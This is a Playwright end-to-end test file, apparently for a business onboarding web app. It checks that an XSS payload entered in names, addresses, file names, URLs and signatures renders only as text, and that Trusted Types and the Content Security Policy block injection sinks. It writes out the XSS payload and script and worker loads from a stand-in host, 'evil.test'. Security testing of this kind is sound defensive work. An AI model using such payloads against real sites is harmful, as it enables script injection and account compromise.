import { ROUTES } from '#machines/journey/routes.ts';
import { FRAME } from '#src/content/frame.ts';
import { pdfNamed } from '#test/e2e/support/files.ts';
import { HEADINGS } from '#test/paths/controls/places.ts';
import { expectContractPage, openScreen, signAndSubmit } from '#test/e2e/support/placeSteps.ts';
import { CONNECTED, expect, expectScreen, test, visitAs } from '#test/e2e/support/test.ts';

const PAYLOAD = '"><img src=x onerror=__pwned=1><svg onload=__pwned=1>';
/** What would come of the payload, if it were taken for markup. */
const COME_OF_IT = 'img[src="x"], [onerror], [onload]';

test.describe('F-81 markup where a text is expected', () => {
  test('is text at every place of the journey: in a name, an address, a file name, a signature and on the contract', async ({
    page,
  }) => {
    const user = JSON.stringify({ email: `${PAYLOAD}@example.com`, name: PAYLOAD });
    await visitAs(page, { ...CONNECTED, user });
    await page.goto(`/${PAYLOAD}#${PAYLOAD}`);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Page not found');
    await page.getByRole('button', { name: FRAME.menu.label(PAYLOAD) }).click();
    await expect(page.getByText(PAYLOAD, { exact: true })).toBeVisible();
    await expect(page.locator(COME_OF_IT)).toHaveCount(0);

    await page.keyboard.press('Escape');
    await openScreen(page, 'entityDetails');
    await page.getByLabel('Business address').fill(PAYLOAD);
    await page.getByLabel('Owner 1 full name').fill(PAYLOAD);
    const articles = page.getByRole('group', { name: /^Articles of Organization/ });
    await articles.locator('input[type=file]').setInputFiles(pdfNamed(`${PAYLOAD}.pdf`));
    await expect(articles).toContainText(`${PAYLOAD}.pdf`);
    await expect(page.locator(COME_OF_IT)).toHaveCount(0);
    await openScreen(page, 'contract');
    await expectContractPage(page, 1);
    await expect(page.getByText(PAYLOAD).first()).toBeVisible();
    await signAndSubmit(page, PAYLOAD);
    await page.getByRole('button', { name: 'Continue to Dashboard' }).click();
    await expect(page.getByText(`Signed by ${PAYLOAD} on`)).toBeVisible();
    await expect(page.locator(COME_OF_IT)).toHaveCount(0);
    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
  });
});

test.describe('F-82 our own code puts markup or inline code into the page', () => {
  test('the browser refuses it: no element comes of it and nothing runs', async ({ page, expectNoise }) => {
    expectNoise(/Trusted|Content Security Policy|content-security-policy/i);
    await page.goto(ROUTES.offers.path);
    await expectScreen(page, 'offers', HEADINGS.offers);
    const refused = await page.evaluate((payload) => {
      const refusals: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refusals.push(effectiveDirective),
      );
      const place = document.body.appendChild(document.createElement('div'));
      const attempts: readonly (() => void)[] = [
        () => (place.innerHTML = payload),
        () => place.insertAdjacentHTML('beforeend', payload),
        () => place.setHTMLUnsafe(payload),
        () => document.write(payload),
        () => (document.createElement('iframe').srcdoc = payload),
        () => (document.createElement('script').text = '__pwned=1'),
        () => (document.createElement('script').src = '//evil.test/x.js'),
        () => place.setAttribute('onclick', '__pwned=1'),
        () => void new Worker('//evil.test/x.js'),
      ];
      const thrown = attempts.map((attempt) => {
        try {
          attempt();
          return 'done';
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error);
        }
      });
      place.setAttribute('style', 'color: red');
      const styles = document.head.appendChild(document.createElement('style'));
      styles.textContent = 'body { display: none }';
      return new Promise<{ thrown: string[]; refusals: string[]; elements: number }>((resolve) => {
        // The browser tells of a refusal in a later task.
        const toldOfAll = () =>
          ['require-trusted-types-for', 'style-src-attr', 'style-src-elem'].every((one) => refusals.includes(one));
        const answer = () => {
          if (toldOfAll()) resolve({ thrown, refusals, elements: place.childElementCount });
        };
        document.addEventListener('securitypolicyviolation', answer);
        answer();
      });
    }, PAYLOAD);
    expect(refused).toEqual({
      thrown: Array.from({ length: 9 }, () => 'refused'),
      refusals: expect.arrayContaining(['require-trusted-types-for', 'style-src-attr', 'style-src-elem']),
      elements: 0,
    });
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
  });
});
